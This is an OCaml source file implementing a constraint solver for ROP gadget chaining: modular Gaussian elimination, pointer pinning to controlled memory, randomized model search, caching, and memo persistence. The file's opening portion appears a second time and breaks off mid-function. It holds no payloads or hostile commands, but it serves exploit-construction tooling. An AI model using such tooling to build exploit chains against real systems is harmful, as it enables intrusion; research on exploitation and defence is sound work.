(* Constraint solver for gadget chaining.

   Replaces Z3 for the fragment that actually arises (DESIGN.md §2):

   - conjunctions of EQUALITIES over 64-bit linear terms — decided exactly
     by Gaussian elimination over Z/2^64 (odd coefficients are invertible;
     gadget semantics produce coefficients that are almost always ±1);
   - POINTER atoms — discharged by binding a free variable to an address
     from the caller's pool of controlled memory;
   - everything else (disequalities, orderings, non-linear residue) — by
     randomized + special-value model search, which is complete "with high
     probability" for the sparse constraints gadgets generate.

   [Unsat] is only reported when the linear core is provably inconsistent,
   so Unsat is sound.  [Sat] always carries a model that has been
   re-checked against every atom, so Sat is sound too.  The incomplete
   answer is [Unknown]. *)

module Smap = Map.Make (String)

type model = int64 Smap.t

let model_fn m v = match Smap.find_opt v m with Some x -> x | None -> 0L

type result = Sat of model | Unsat | Unknown

(* Pointer constraints are discharged against a pool: [pins] are concrete
   candidate addresses a free pointer variable may be bound to;
   [readable]/[writable] are the (wider) predicates a concrete address
   must satisfy. *)
type pointer_pool = {
  pins : int64 list;
  readable : int64 -> bool;
  writable : int64 -> bool;
}

let default_pool =
  (* matches the emulator's scratch region *)
  let in_scratch a = a >= 0x700000L && a < 0x710000L in
  { pins = [ 0x700000L; 0x700100L; 0x700200L ];
    readable = in_scratch;
    writable = in_scratch }

(* ----- linear algebra over Z/2^64 ----- *)

(* Inverse of an odd number mod 2^64 by Newton iteration. *)
let inv64 a =
  if Int64.logand a 1L = 0L then invalid_arg "inv64: even";
  let rec go x n =
    if n = 0 then x
    else go (Int64.mul x (Int64.sub 2L (Int64.mul a x))) (n - 1)
  in
  go a 6

open Term

(* Substitution: var -> linear form over still-free vars. *)
type subst = linear Smap.t

let subst_linear (sigma : subst) (l : linear) : linear =
  List.fold_left
    (fun acc (v, c) ->
      match Smap.find_opt v sigma with
      | Some lv -> lin_add acc (lin_scale c lv)
      | None -> lin_add acc { lin_const = 0L; lin_terms = [ (v, c) ] })
    (lin_const l.lin_const) l.lin_terms

(* Add [v := rhs] and re-reduce existing entries so sigma stays fully
   substituted (triangular-free). *)
let extend_subst (sigma : subst) v rhs =
  let sigma =
    Smap.map
      (fun l ->
        let coeff = try List.assoc v l.lin_terms with Not_found -> 0L in
        if coeff = 0L then l
        else
          lin_add
            { l with lin_terms = List.remove_assoc v l.lin_terms }
            (lin_scale coeff rhs))
      sigma
  in
  Smap.add v rhs sigma

(* Solve one equation l = 0 under sigma.  Returns [Ok sigma'] (possibly
   extended), [Error `Inconsistent], or [Error `Hard] when no odd-coefficient
   pivot exists. *)
let solve_eq sigma l =
  let l = subst_linear sigma l in
  match l.lin_terms with
  | [] -> if l.lin_const = 0L then Ok sigma else Error `Inconsistent
  | terms -> (
    (* prefer |coeff| = 1 pivots to keep numbers small *)
    let unit_pivot = List.find_opt (fun (_, c) -> c = 1L || c = -1L) terms in
    let odd_pivot = List.find_opt (fun (_, c) -> Int64.logand c 1L = 1L) terms in
    match (match unit_pivot with Some p -> Some p | None -> odd_pivot) with
    | None -> Error `Hard
    | Some (v, c) ->
      let rest = { l with lin_terms = List.remove_assoc v l.lin_terms } in
      (* c*v + rest = 0  =>  v = rest * (-(c^-1)) *)
      let rhs = lin_scale (Int64.neg (inv64 c)) rest in
      Ok (extend_subst sigma v rhs))

(* Pointer-pinning variant of [solve_eq] that also handles a single
   even-coefficient pivot 2^s * m (m odd) when the constant side is
   divisible by 2^s — the jump-table pattern `table + 8*index`, where the
   attacker can point the table read anywhere 8-aligned. *)
let solve_pin sigma l =
  match solve_eq sigma l with
  | (Ok _ | Error `Inconsistent) as r -> r
  | Error `Hard -> (
    let l' = subst_linear sigma l in
    match l'.lin_terms with
    | [ (v, c) ] when c <> 0L ->
      let s = ref 0 in
      let m = ref c in
      while Int64.logand !m 1L = 0L && !s < 63 do
        m := Int64.shift_right_logical !m 1;
        incr s
      done;
      let mask = Int64.sub (Int64.shift_left 1L !s) 1L in
      if Int64.logand l'.lin_const mask <> 0L then Error `Hard
      else begin
        (* c*v + k = 0 with c = 2^s*m: v = -(k/2^s) * m^-1 *)
        let k = Int64.shift_right l'.lin_const !s in
        let rhs = lin_const (Int64.mul (Int64.neg k) (inv64 !m)) in
        Ok (extend_subst sigma v rhs)
      end
    | _ -> Error `Hard)

(* ----- main entry ----- *)

let special_values =
  [ 0L; 1L; 2L; -1L; 8L; 0x100L; 0x1000L; 0x400000L; 0x601000L; Int64.min_int ]

(* Fault-injection hook: when it returns true the query is abandoned as
   Unknown before any reasoning, simulating a divergent backend.  The
   solver sits below Gp_core, so the harness installs the predicate here
   directly (see Gp_harness.Faultsim).  Unknown is always a sound
   answer, so injection cannot corrupt results — only degrade them.
   The predicate receives the query so an installed schedule can be a
   pure function of it — order-independent, hence identical under any
   domain count (injection is checked BEFORE the memo cache, and an
   injected Unknown is never cached). *)
let chaos_unknown : (Formula.t list -> bool) ref = ref (fun _ -> false)

(* Running count of Unknown verdicts (injected, genuine, or served from
   the memo cache — every Unknown ANSWERED counts, so the tally depends
   only on the query sequence, not on cache temperature); Api snapshots
   it around each stage to attribute solver indecision.  Atomic: bumped
   from worker domains during parallel subsumption. *)
let unknowns = Atomic.make 0

(* ----- screening front-end (DESIGN.md §12) -----

   Three cheap tiers sit in front of the solver proper.  The contract
   for every tier: it may only short-circuit a query when the verdict it
   returns is the one the fall-through path would produce AT THE CALL
   SITE THAT CONSUMES IT — so results are bit-identical with screening
   on or off, at any job count, and `--no-screen` is a pure ablation.

   - Tier A (abstract screening, [Absdom]): disjoint abstract values
     refute [prove_equal] — and the real prover's trial 0 (all zeros)
     would refute too, since disjointness means the terms differ under
     EVERY valuation.  An atom that is abstractly definitely-false
     decides pool-keyed [check] conjunctions as Unsat; the only
     pool-keyed caller (plan instantiation) treats Unsat and Unknown
     identically, which is why this tier is scoped to that path and not
     to the default path that [entails] consumes.

   - Tier B (concrete refutation): a fixed vector of adversarial
     valuations shared across all queries.  For [entails], any point
     satisfying hyps ∧ ¬concl is a genuine model, so the real check
     could not have answered Unsat (Unsat is sound) — "not entailed"
     either way.  For [prove_equal], only the all-zeros and all-ones
     points are used: they are literally the real prover's first two
     trials, so a hit reproduces its verdict exactly.

   - Tier C (shared-prefix elimination reuse): plan instantiation
     issues families of queries whose canonicalized equality lists
     share long prefixes (the chain-so-far); the Gaussian elimination
     fold is memoized in a trie keyed on the exact equation prefix, so
     an extension only eliminates the new equalities.  The reused state
     is the fold's own accumulator — identical by construction.

   Counters are bumped per query ANSWERED, before any memo lookup (the
   same discipline as [unknowns]), so the tallies depend only on the
   query sequence and are identical under any job count. *)

let screen_on = ref true
let screen_enabled () = !screen_on
let set_screen_enabled b = screen_on := b

let screen_refuted = Atomic.make 0
let screen_decided = Atomic.make 0
let concrete_refuted = Atomic.make 0
let elim_reused = Atomic.make 0

let screen_stats () =
  ( Atomic.get screen_refuted,
    Atomic.get screen_decided,
    Atomic.get concrete_refuted,
    Atomic.get elim_reused )

(* The Tier B valuation family lives in [Fpeval] (DESIGN.md §17):
   fingerprints and the screen must share one point set by
   construction, and Fpeval is the module that batch-evaluates terms
   over all of them in a single traversal. *)
let screen_points = Fpeval.points
let point_model = Fpeval.point_model

(* ----- Tier C: elimination-prefix trie -----

   One step of the Gaussian-elimination fold; [None] = inconsistent.
   The [hard] list accumulates in the fold's own (reversed) order — the
   residual construction depends on it, so the memoized state must
   reproduce it exactly. *)
let elim_step acc l =
  match acc with
  | None -> None
  | Some (sigma, hard) -> (
    match solve_eq sigma l with
    | Ok sigma' -> Some (sigma', hard)
    | Error `Inconsistent -> None
    | Error `Hard -> Some (sigma, l :: hard))

(* Trie over equation prefixes: a node's state is the fold accumulator
   after processing the equations on the path to it — a pure function
   of that prefix, so a reused state is bit-identical to a recomputed
   one.  Elimination runs before pointer pinning, so the trie is valid
   across pools.  The trie is DOMAIN-LOCAL ([Domain.DLS]): this is the
   expensive half of every [check_real], and a process-shared trie
   would take a mutex per equation node — worker domains trade a
   little cross-domain reuse for a lock-free walk.  [elim_reused] is
   therefore (like the cache hit/miss split) a temperature statistic:
   reported, excluded from differential comparisons. *)
type elim_node = {
  estate : (subst * linear list) option;
  echildren : (linear, elim_node) Hashtbl.t;
}

let elim_key : elim_node Domain.DLS.key =
  Domain.DLS.new_key (fun () ->
      { estate = Some (Smap.empty, []); echildren = Hashtbl.create 256 })

let eliminate eqs =
  if not !screen_on then
    List.fold_left elim_step (Some (Smap.empty, [])) eqs
  else begin
    let reused = ref false in
    let rec go node = function
      | [] -> node.estate
      | l :: rest ->
        let child =
          match Hashtbl.find_opt node.echildren l with
          | Some c ->
            reused := true;
            c
          | None ->
            let c =
              { estate = elim_step node.estate l;
                echildren = Hashtbl.create 4 }
            in
            Hashtbl.add node.echildren l c;
            c
        in
        go child rest
    in
    let r = go (Domain.DLS.get elim_key) eqs in
    if !reused then Atomic.incr elim_reused;
    r
  end

(* Tier C, second half: residual-search reuse.  After elimination and
   pinning, [check_real] hunts for a model of the OPEN residual (the
   atoms left once sigma substituted every bound variable away) by a
   deterministic trial sequence: the all-zeros assignment, then draws
   from a call-local rng with a fixed seed.  That outcome — which
   assignment (if any) is the first to pass — is therefore a pure
   function of (open residual, free-variable list, pool), NOT of the
   full conjunction: instantiation queries that differ only in
   equalities the eliminator absorbs leave the very same residual
   system (typically the gadget's own pointer atoms), and the common
   exhausted-search case burns its whole trial budget on each of them.
   The memo is keyed on exactly that triple; the pool leg reuses the
   caller's [pool_key] vouching (or the default pool), so raw-closure
   pools are never keyed.  A [Found] hit replays the cached free-var
   assignment through THIS query's sigma and re-runs the defensive
   double-check against THIS query's formulas — if that ever failed
   (only possible under an eliminator bug) the code falls back to the
   full fresh search, so behaviour is bit-identical by construction.
   Domain-local like the trie, and counted in [elim_reused]. *)
type pool_id = Pool_default | Pool_keyed of (int64 * int)
type search_outcome = No_assignment | Found of int64 Smap.t

let residual_key :
    ((Formula.t list * string list * pool_id), search_outcome) Hashtbl.t
    Domain.DLS.key =
  Domain.DLS.new_key (fun () -> Hashtbl.create 1024)

let reset_screen () =
  (* clears the calling domain's trie; worker-domain tries hold only
     pure-function-of-prefix states, so keeping them is harmless *)
  Hashtbl.reset (Domain.DLS.get elim_key).echildren;
  Hashtbl.reset (Domain.DLS.get residual_key);
  Absdom.reset ();
  Fpeval.reset ();
  Atomic.set screen_refuted 0;
  Atomic.set screen_decided 0;
  Atomic.set concrete_refuted 0;
  Atomic.set elim_reused 0

let check_real ?(rng = Gp_util.Rng.create 0x5eed) ?(pool = default_pool)
    ?(max_trials = 200) ?pool_id (formulas : Formula.t list) : result =
  let formulas = List.map Formula.simplify formulas in
  if List.mem Formula.False formulas then Unsat
  else begin
    let formulas = List.filter (fun f -> f <> Formula.True) formulas in
    (* Partition into linear equalities / pointer atoms / the rest. *)
    let eqs, pointers, rest =
      List.fold_left
        (fun (eqs, ptrs, rest) f ->
          match f with
          | Formula.Eq (a, b) -> (
            match Term.linearize (Term.Sub (a, b)) with
            | Some l -> (l :: eqs, ptrs, rest)
            | None -> (eqs, ptrs, f :: rest))
          | Formula.Readable _ | Formula.Writable _ -> (eqs, f :: ptrs, rest)
          | _ -> (eqs, ptrs, f :: rest))
        ([], [], []) formulas
    in
    let eqs = List.rev eqs and pointers = List.rev pointers and rest = List.rev rest in
    (* Gaussian elimination on the equalities (through the Tier C
       prefix trie — the same left fold, with shared prefixes of the
       equation list answered from memoized accumulators). *)
    match eliminate eqs with
    | None -> Unsat
    | Some (sigma, hard_eqs) ->
      (* Bind pointer atoms: each free-variable pointer term gets pinned to
         a distinct pool address via an extra linear equation. *)
      let pin (sigma, unpinned, idx) f =
        let term =
          match f with
          | Formula.Writable t | Formula.Readable t -> t
          | _ -> assert false
        in
        match Term.linearize term with
        | None -> (sigma, f :: unpinned, idx)
        | Some l -> (
          let l = subst_linear sigma l in
          match l.lin_terms with
          | [] ->
            (* already concrete; verified at the end against the pool *)
            (sigma, f :: unpinned, idx)
          | _ -> (
            if pool.pins = [] then (sigma, f :: unpinned, idx)
            else
              let addr = List.nth pool.pins (idx mod List.length pool.pins) in
              match solve_pin sigma (lin_add l (lin_const (Int64.neg addr))) with
              | Ok sigma' -> (sigma', unpinned, idx + 1)
              | Error _ -> (sigma, f :: unpinned, idx)))
      in
      let sigma, unpinned_ptrs, npinned =
        List.fold_left pin (sigma, [], 0) pointers
      in
      (* Residual atoms to satisfy by search. *)
      let apply_sigma f =
        Formula.map_terms
          (fun t ->
            Term.simplify
              (Term.subst
                 (fun v ->
                   Option.map (fun l -> Term.of_linear l) (Smap.find_opt v sigma))
                 t))
          f
      in
      let residual =
        List.map apply_sigma
          (rest
          @ List.map (fun l -> Formula.Eq (Term.of_linear l, Term.Const 0L))
              hard_eqs
          @ unpinned_ptrs)
        |> List.map Formula.simplify
      in
      if List.mem Formula.False residual then
        (* A contradiction.  If pin CHOICES were involved we did not
           explore alternatives, so only Unknown is sound; a contradiction
           from pure equality reasoning is a real Unsat. *)
        (if npinned = 0 then Unsat else Unknown)
      else begin
        let residual = List.filter (fun f -> f <> Formula.True) residual in
        (* Free variables = everything mentioned anywhere minus sigma's keys. *)
        let all_vars =
          List.fold_left
            (fun s f -> Term.Vset.union s (Formula.vars f))
            Term.Vset.empty formulas
        in
        let sigma_vars =
          Smap.fold
            (fun v l s ->
              List.fold_left
                (fun s (v', _) -> Term.Vset.add v' s)
                (Term.Vset.add v s) l.lin_terms)
            sigma Term.Vset.empty
        in
        let free =
          Term.Vset.elements
            (Term.Vset.diff
               (Term.Vset.union all_vars sigma_vars)
               (Smap.fold (fun v _ s -> Term.Vset.add v s) sigma Term.Vset.empty))
        in
        let readable = pool.readable in
        let writable = pool.writable in
        (* Residual formulas with no variables left (typically concrete
           pointer atoms) evaluate the same under EVERY assignment —
           the search can neither fix a false one by retrying nor lose
           a true one, so judge them once here instead of once per
           trial.  A false closed atom means no trial can ever succeed:
           that is exactly an exhausted search, hence Unknown (the
           search's rng is call-local, so the skipped draws are
           invisible to every other query). *)
        let closed, open_residual =
          List.partition
            (fun f -> Term.Vset.is_empty (Formula.vars f))
            residual
        in
        let closed_ok =
          List.for_all
            (Formula.eval ~readable ~writable (model_fn Smap.empty))
            closed
        in
        if not closed_ok then Unknown
        else begin
          let build_model assignment =
            let free_model = assignment in
            let m =
              Smap.fold
                (fun v l acc ->
                  let value =
                    List.fold_left
                      (fun s (v', c) -> Int64.add s (Int64.mul c (model_fn free_model v')))
                      l.lin_const l.lin_terms
                  in
                  Smap.add v value acc)
                sigma free_model
            in
            m
          in
          (* [apply_sigma] substituted every bound variable away, so the
             open residual mentions free variables only — each trial can
             evaluate it straight off the assignment.  The full model
             (the sigma fold) is only materialized for the rare trial
             that passes, where the double-check and the returned [Sat]
             witness need it; failed trials skip it entirely.  Same
             verdicts, same witnesses — just no per-trial sigma fold. *)
          let try_assignment assignment =
            if
              List.for_all
                (Formula.eval ~readable ~writable (model_fn assignment))
                open_residual
            then begin
              let m = build_model assignment in
              (* double-check the original system — guards against any bug
                 in the elimination *)
              if List.for_all (Formula.eval ~readable ~writable (model_fn m)) formulas
              then Some m
              else None
            end
            else None
          in
          let zero_assignment =
            List.fold_left (fun m v -> Smap.add v 0L m) Smap.empty free
          in
          let run_search () =
            match try_assignment zero_assignment with
            | Some m -> Sat m
            | None ->
              (* With no free variables there is exactly one candidate
                 assignment and it just failed: every further trial would
                 rebuild the same model.  Identical to exhausting the
                 search, without the [max_trials] rebuilds. *)
              if free = [] then Unknown
              else
                let rec search k =
                  if k >= max_trials then Unknown
                  else begin
                    let assignment =
                      List.fold_left
                        (fun m v ->
                          let value =
                            if Gp_util.Rng.int rng 4 = 0 then
                              List.nth special_values
                                (Gp_util.Rng.int rng (List.length special_values))
                            else Gp_util.Rng.next_int64 rng
                          in
                          Smap.add v value m)
                        Smap.empty free
                    in
                    match try_assignment assignment with
                    | Some m -> Sat m
                    | None -> search (k + 1)
                  end
                in
                search 0
          in
          (* Tier C residual-search reuse (see [residual_key]): the trial
             sequence is deterministic, so the first open-residual-passing
             assignment (or its absence) is a pure function of the key.
             Free vars are disjoint from sigma's domain, so replaying the
             cached assignment through THIS query's sigma rebuilds exactly
             the model the fresh search would have built. *)
          match pool_id with
          | Some pid when !screen_on ->
            let tbl = Domain.DLS.get residual_key in
            let key = (open_residual, free, pid) in
            (match Hashtbl.find_opt tbl key with
            | Some No_assignment ->
              Atomic.incr elim_reused;
              Unknown
            | Some (Found assignment) ->
              let m = build_model assignment in
              if
                List.for_all (Formula.eval ~readable ~writable (model_fn m))
                  formulas
              then begin
                Atomic.incr elim_reused;
                Sat m
              end
              else
                (* unreachable unless the eliminator mis-solved: fall back
                   to the fresh search so behaviour cannot diverge *)
                run_search ()
            | None ->
              let r = run_search () in
              (match r with
              | Sat m ->
                let assignment =
                  List.fold_left
                    (fun a v -> Smap.add v (model_fn m v) a)
                    Smap.empty free
                in
                Hashtbl.replace tbl key (Found assignment)
              | Unknown -> Hashtbl.replace tbl key No_assignment
              | Unsat -> ());
              r)
          | _ -> run_search ()
        end
      end
  end

(* Memo of [check] verdicts for default-configuration queries and of
   [prove_equal] probes (see Cache).  Both caches answer the canonical
   form, so a hit is indistinguishable from a fresh solve. *)
let memo : (Formula.t list, result) Cache.t = Cache.create ()
let equal_memo : (Term.t * Term.t, bool) Cache.t = Cache.create ()

(* Memo for non-default pools that the CALLER can key structurally:
   [Layout.pool ~salt] is a pure function of (payload_base, rotation), so
   the planner passes that pair as [pool_key] and identical instantiation
   queries — which recur constantly as the same gadget is tried against
   the same condition along different branches — are answered once.  The
   key is structured, not hashed, so distinct pools can never collide. *)
let pool_memo : (((int64 * int) * Formula.t list), result) Cache.t =
  Cache.create ()

(* [unsat_screen] guards Tier A's trivially-Unsat decision: an atom
   that is abstractly definitely-false makes the conjunction Unsat
   under every valuation, but the full solver may only manage Unknown
   for it — interchangeable for every [check] consumer (they treat
   Unsat and Unknown alike), NOT for [entails], which reads Unsat as
   "entailed".  [entails] therefore falls through with the screen off
   (it has its own verdict-preserving screens).  The screen runs before
   the memos, on every rng-free path uniformly, so keyed, raw-pool and
   default solves of the same query keep answering identically. *)
let check_gen ~unsat_screen ?rng ?pool ?pool_key ?max_trials formulas =
  if !chaos_unknown formulas then begin
    Atomic.incr unknowns;
    Unknown
  end
  else if
    unsat_screen && !screen_on
    && Option.is_none rng && Option.is_none max_trials
    && List.exists (fun f -> Absdom.formula f = Absdom.No) formulas
  then begin
    Atomic.incr screen_decided;
    Unsat
  end
  else begin
    let count r =
      (match r with Unknown -> Atomic.incr unknowns | Sat _ | Unsat -> ());
      r
    in
    (* Only queries against the solver's defaults are memoizable: a
       caller-supplied rng, trial budget, or pointer pool changes the
       verdict function, and pools carry closures we cannot key on. *)
    let cacheable =
      Option.is_none rng && Option.is_none max_trials
      && (match pool with None -> true | Some p -> p == default_pool)
    in
    if cacheable then begin
      let canonical = Cache.canon formulas in
      count
        (Cache.find_or_add memo canonical (fun () ->
             check_real ~pool_id:Pool_default canonical))
    end
    else
      match pool_key with
      | Some pk when Option.is_none rng && Option.is_none max_trials ->
        (* Caller vouches that [pk] fully determines [pool]; check_real
           runs with its fixed default rng, so the verdict is a pure
           function of (pk, canonical conjunction). *)
        let canonical = Cache.canon formulas in
        count
          (Cache.find_or_add pool_memo (pk, canonical) (fun () ->
               check_real ?pool ~pool_id:(Pool_keyed pk) canonical))
      | _ -> count (check_real ?rng ?pool ?max_trials formulas)
  end

let check ?rng ?pool ?pool_key ?max_trials formulas =
  check_gen ~unsat_screen:true ?rng ?pool ?pool_key ?max_trials formulas

(* Entailment: hyps |= concl.  True only when hyps ∧ ¬concl is provably
   unsat; Unknown is treated as "not entailed" (conservative for
   subsumption: we keep more gadgets than strictly necessary).

   Screening (verdict-preserving at this boolean level):

   - Tier A discharges the entailment when ¬concl alone simplifies to
     False — exactly the first test the full check would apply after
     simplification, so the fall-through answer is Unsat either way.
   - Tier B refutes it when any fixed valuation satisfies hyps ∧ ¬concl
     (pointer atoms judged by the actual pool's predicates): that is a
     genuine model, and Unsat is sound, so the full check could only
     have answered Sat or Unknown — "not entailed" both ways.  This is
     the common case for subsumption probes between unrelated gadgets,
     where the full path would burn its entire randomized model search
     before giving up with Unknown. *)
let entails ?rng ?pool hyps concl =
  let screened =
    if not !screen_on then None
    else begin
      let neg = Formula.negate concl in
      if Formula.simplify neg = Formula.False then begin
        Atomic.incr screen_decided;
        Some true
      end
      else begin
        let formulas = neg :: hyps in
        let p = match pool with Some p -> p | None -> default_pool in
        (* Same refutation condition either way: some screen point
           satisfies hyps ∧ ¬concl under the pool's predicates.  With
           fingerprints on, the batched lane masks answer it from one
           memoized traversal per term instead of |points| fresh
           [Formula.eval] walks. *)
        let refutable =
          if Fpeval.enabled () then
            Fpeval.conj_mask ~readable:p.readable ~writable:p.writable
              formulas
            <> 0
          else
            let sat m =
              List.for_all
                (Formula.eval ~readable:p.readable ~writable:p.writable m)
                formulas
            in
            Array.exists (fun pt -> sat (point_model pt)) screen_points
        in
        if refutable then begin
          Atomic.incr concrete_refuted;
          Some false
        end
        else None
      end
    end
  in
  match screened with
  | Some b -> b
  | None -> (
    match check_gen ~unsat_screen:false ?rng ?pool (Formula.negate concl :: hyps) with
    | Unsat -> true
    | Sat _ | Unknown -> false)

(* Probabilistic semantic equality of two terms: canonical forms equal, or
   no counterexample found in [trials] random evaluations.  Used by
   subsumption testing; unsoundness here only costs pool diversity and is
   caught downstream by emulator validation of payloads. *)
let prove_equal_real ?(rng = Gp_util.Rng.create 0x7e57) ?(trials = 32) a b =
  let a = Term.simplify a and b = Term.simplify b in
  if a = b then true
  else begin
    let vs =
      Term.Vset.elements (Term.Vset.union (Term.vars a) (Term.vars b))
    in
    let refuted = ref false in
    let k = ref 0 in
    while (not !refuted) && !k < trials do
      let m =
        List.fold_left
          (fun m v ->
            let value =
              if !k = 0 then 0L
              else if !k = 1 then 1L
              else Gp_util.Rng.next_int64 rng
            in
            Smap.add v value m)
          Smap.empty vs
      in
      if Term.eval (model_fn m) a <> Term.eval (model_fn m) b then refuted := true;
      incr k
    done;
    not !refuted
  end

(* ----- memo persistence (DESIGN.md §11) -----

   The three verdict memos are exactly the caches whose keys are pure
   structural data, so they can be dumped into the on-disk store and
   pre-seeded on the next run: every stored verdict is a pure function
   of its canonical key, so importing can only skip solves, never change
   one.  Each entry is self-contained (its own Term.Ser pool); sections
   are sorted by serialized key so the file bytes are deterministic. *)

module Bin = Gp_util.Store.Bin

let put_result _w b = function
  | Sat m ->
    Bin.u8 b 0;
    let bindings = Smap.bindings m in
    Bin.int_ b (List.length bindings);
    List.iter (fun (v, x) -> Bin.str b v; Bin.i64 b x) bindings
  | Unsat -> Bin.u8 b 1
  | Unknown -> Bin.u8 b 2

let get_result _r s pos =
  match Bin.gu8 s pos with
  | 0 ->
    let n = Bin.gint s pos in
    if n < 0 then raise Bin.Truncated;
    let m = ref Smap.empty in
    for _ = 1 to n do
      let v = Bin.gstr s pos in
      let x = Bin.gi64 s pos in
      m := Smap.add v x !m
    done;
    Sat !m
  | 1 -> Unsat
  | 2 -> Unknown
  | _ -> raise Bin.Truncated

let ser put_k put_v (k, v) =
  let w = Term.Ser.writer () in
  let kb = Buffer.create 64 in
  put_k w kb k;
  (* The value continues the key's node pool, so [w] spans the entry and
     the reader must consume key then value in order. *)
  let vb = Buffer.create 32 in
  put_v w vb v;
  (Buffer.contents kb, Buffer.contents vb)

let deser get_k get_v (ks, vs) =
  let r = Term.Ser.reader () in
  let kpos = ref 0 in
  let k = get_k r ks kpos in
  (* value pool refs resolve against nodes defined in the key *)
  let vpos = ref 0 in
  let v = get_v r vs vpos in
  (k, v)

let dump_memo cache put_k put_v =
  Cache.export cache
  |> List.map (ser put_k put_v)
  |> List.sort compare

let seed_memo cache get_k get_v entries =
  Cache.import cache (List.map (deser get_k get_v) entries)

let put_pair w b (a, b') = Term.Ser.put w b a; Term.Ser.put w b b'
let get_pair r s pos =
  let a = Term.Ser.get r s pos in
  let b = Term.Ser.get r s pos in
  (a, b)

let put_pool_key w b ((base, salt), fs) =
  Bin.i64 b base; Bin.int_ b salt; Formula.put_list w b fs
let get_pool_key r s pos =
  let base = Bin.gi64 s pos in
  let salt = Bin.gint s pos in
  let fs = Formula.get_list r s pos in
  ((base, salt), fs)

let put_bool _w b v = Bin.bool_ b v
let get_bool _r s pos = Bin.gbool s pos
let put_formulas w b fs = Formula.put_list w b fs
let get_formulas r s pos = Formula.get_list r s pos

let memo_section_names = [ "solver.check"; "solver.equal"; "solver.pool" ]

let memo_count () =
  Cache.length memo + Cache.length equal_memo + Cache.length pool_memo

let export_memos () =
  [ { Gp_util.Store.name = "solver.check";
      entries = dump_memo memo put_formulas put_result };
    { Gp_util.Store.name = "solver.equal";
      entries = dump_memo equal_memo put_pair put_bool };
    { Gp_util.Store.name = "solver.pool";
      entries = dump_memo pool_memo put_pool_key put_result } ]

let import_memos (sections : Gp_util.Store.section list) =
  let count = ref 0 in
  List.iter
    (fun { Gp_util.Store.name; entries } ->
      let seed c gk gv =
        count := !count + List.length entries;
        seed_memo c gk gv entries
      in
      match name with
      | "solver.check" -> seed memo get_formulas get_result
      | "solver.equal" -> seed equal_memo get_pair get_bool
      | "solver.pool" -> seed pool_memo get_pool_key get_result
      | _ -> ())
    sections;
  !count

(* Default-configuration probes are memoized on the simplified pair;
   equality is symmetric, so the two sides are ordered (structurally)
   first.  Probes run with a fresh default rng each time, so the
   verdict is a pure function of the (simplified) pair.

   Screening, checked before the memo (tallies count per query
   answered, independent of cache temperature):

   - Tier A: disjoint abstract values mean the terms differ under EVERY
     valuation — in particular under the real prover's trial 0, so the
     fall-through verdict is false too.
   - Tier B: only the all-zeros and all-ones points, which are exactly
     the real prover's first two trials; a hit reproduces its verdict.
     The remaining adversarial points are NOT used here — a refutation
     the 32-trial path might miss would flip a (probabilistically
     unsound but by-contract authoritative) true to false and change
     subsumption results. *)
let prove_equal ?rng ?trials a b =
  match (rng, trials) with
  | None, None ->
    let a = Term.simplify a and b = Term.simplify b in
    if a = b then true
    else if !screen_on && Absdom.disjoint (Absdom.of_term a) (Absdom.of_term b)
    then begin
      Atomic.incr screen_refuted;
      false
    end
    else if
      !screen_on
      &&
      (* lanes 0 and 1 of the fingerprint ARE the all-zeros/all-ones
         evaluations (Fpeval.points lanes [Fill 0L; Fill 1L; ...]), so
         the O(1) lane compare reproduces the two-point check exactly;
         with fingerprints disabled, fall back to the fresh walks *)
      (if Fpeval.enabled () then
         let la = (Fpeval.eval a).Fpeval.lv and lb = (Fpeval.eval b).Fpeval.lv in
         la.(0) <> lb.(0) || la.(1) <> lb.(1)
       else
         Term.eval (fun _ -> 0L) a <> Term.eval (fun _ -> 0L) b
         || Term.eval (fun _ -> 1L) a <> Term.eval (fun _ -> 1L) b)
    then begin
      Atomic.incr concrete_refuted;
      false
    end
    else
      let key = if compare a b <= 0 then (a, b) else (b, a) in
      Cache.find_or_add equal_memo key (fun () -> prove_equal_real a b)
  | _ -> prove_equal_real ?rng ?trials a b
