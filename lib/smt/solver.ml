(* Constraint solver for gadget chaining.

   Replaces Z3 for the fragment that actually arises (DESIGN.md §2):

   - conjunctions of EQUALITIES over 64-bit linear terms — decided exactly
     by Gaussian elimination over Z/2^64 (odd coefficients are invertible;
     gadget semantics produce coefficients that are almost always ±1);
   - POINTER atoms — discharged by binding a free variable to an address
     from the caller's pool of controlled memory;
   - everything else (disequalities, orderings, non-linear residue) — by
     randomized + special-value model search, which is complete "with high
     probability" for the sparse constraints gadgets generate.

   [Unsat] is only reported when the linear core is provably inconsistent,
   so Unsat is sound.  [Sat] always carries a model that has been
   re-checked against every atom, so Sat is sound too.  The incomplete
   answer is [Unknown]. *)

module Smap = Map.Make (String)

type model = int64 Smap.t

let model_fn m v = match Smap.find_opt v m with Some x -> x | None -> 0L

type result = Sat of model | Unsat | Unknown

(* Pointer constraints are discharged against a pool: [pins] are concrete
   candidate addresses a free pointer variable may be bound to;
   [readable]/[writable] are the (wider) predicates a concrete address
   must satisfy. *)
type pointer_pool = {
  pins : int64 list;
  readable : int64 -> bool;
  writable : int64 -> bool;
}

let default_pool =
  (* matches the emulator's scratch region *)
  let in_scratch a = a >= 0x700000L && a < 0x710000L in
  { pins = [ 0x700000L; 0x700100L; 0x700200L ];
    readable = in_scratch;
    writable = in_scratch }

(* ----- linear algebra over Z/2^64 ----- *)

(* Inverse of an odd number mod 2^64 by Newton iteration. *)
let inv64 a =
  if Int64.logand a 1L = 0L then invalid_arg "inv64: even";
  let rec go x n =
    if n = 0 then x
    else go (Int64.mul x (Int64.sub 2L (Int64.mul a x))) (n - 1)
  in
  go a 6

open Term

(* Substitution: var -> linear form over still-free vars. *)
type subst = linear Smap.t

let subst_linear (sigma : subst) (l : linear) : linear =
  List.fold_left
    (fun acc (v, c) ->
      match Smap.find_opt v sigma with
      | Some lv -> lin_add acc (lin_scale c lv)
      | None -> lin_add acc { lin_const = 0L; lin_terms = [ (v, c) ] })
    (lin_const l.lin_const) l.lin_terms

(* Add [v := rhs] and re-reduce existing entries so sigma stays fully
   substituted (triangular-free). *)
let extend_subst (sigma : subst) v rhs =
  let sigma =
    Smap.map
      (fun l ->
        let coeff = try List.assoc v l.lin_terms with Not_found -> 0L in
        if coeff = 0L then l
        else
          lin_add
            { l with lin_terms = List.remove_assoc v l.lin_terms }
            (lin_scale coeff rhs))
      sigma
  in
  Smap.add v rhs sigma

(* Solve one equation l = 0 under sigma.  Returns [Ok sigma'] (possibly
   extended), [Error `Inconsistent], or [Error `Hard] when no odd-coefficient
   pivot exists. *)
let solve_eq sigma l =
  let l = subst_linear sigma l in
  match l.lin_terms with
  | [] -> if l.lin_const = 0L then Ok sigma else Error `Inconsistent
